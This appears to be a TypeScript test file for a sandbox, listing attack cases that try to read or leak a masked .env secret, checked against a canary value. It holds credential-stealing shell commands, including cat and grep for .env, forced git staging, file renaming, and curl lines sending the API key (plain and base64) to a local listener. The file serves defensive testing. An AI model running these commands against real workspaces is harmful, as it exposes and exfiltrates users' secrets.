import { heard, prints } from "../attack.ts";
import type { Attack } from "../attack.ts";

const category = "secrets" as const;

/** The workspace's own secret values: masked in the shadow, never under a path that the sandbox sees. */
const secretsCases: readonly Omit<Attack, "category">[] = [
  {
    id: "secret-file",
    title: "reads the workspace's .env",
    script: "cat .env",
    hit: prints("env"),
  },
  {
    id: "secret-absolute",
    title: "reads it by the workspace's own path",
    script: "cat $REAL_WORKSPACE/.env",
    hit: prints("env"),
  },
  {
    id: "secret-grep",
    title: "searches everything it can see",
    script: "timeout 6 grep -rshI 'canary-env' $ROOT/work . ~ 2>/dev/null | head -3",
    hit: prints("env"),
  },
  {
    id: "secret-environ",
    title: "finds it in a process's environment",
    script: "API_KEY=$(sed -n 's/^API_KEY=//p' .env); echo $API_KEY",
    hit: prints("env"),
  },
  {
    id: "secret-tool",
    title: "lets a tool load it",
    script: 'node -e \'console.log(require("fs").readFileSync(".env","utf8"))\'',
    hit: prints("env"),
  },
  {
    id: "secret-git",
    title: "commits it and reads it from git",
    script: "git add -f .env && git show :.env; git reset -q .env",
    hit: prints("env"),
  },
  {
    id: "secret-send",
    title: "sends it out in plain text",
    script:
      "curl -s -m 3 --noproxy '' http://127.0.0.1:$PORT/secret-send/$(sed -n 's/^API_KEY=//p' .env)",
    hit: heard("secret-send/canary-env"),
  },
  {
    id: "secret-encoded",
    title: "sends it out encoded",
    script: "curl -s -m 3 --noproxy '' http://127.0.0.1:$PORT/secret-encoded/$(base64 -w0 < .env)",
    hit: heard("secret-encoded/"),
  },
  {
    id: "secret-rename",
    title: "moves the masked file away to uncover what it hides",
    script: "mv .env .env.bak 2>/dev/null; cat .env .env.bak; mv .env.bak .env 2>/dev/null",
    hit: prints("env"),
  },
];

export const secrets: readonly Attack[] = secretsCases.map((attack) => ({ category, ...attack }));

/** Shown without a sandbox in a transaction: else there is no state. */
export const stateSecrets: readonly Attack[] = [
  {
    id: "secret-state",
    category,
    title: "reads the saved copies in the state directory",
    script: "find $STATE -type f -exec cat {} + 2>/dev/null | grep -a canary-env",
    hit: prints("env"),
  },
];
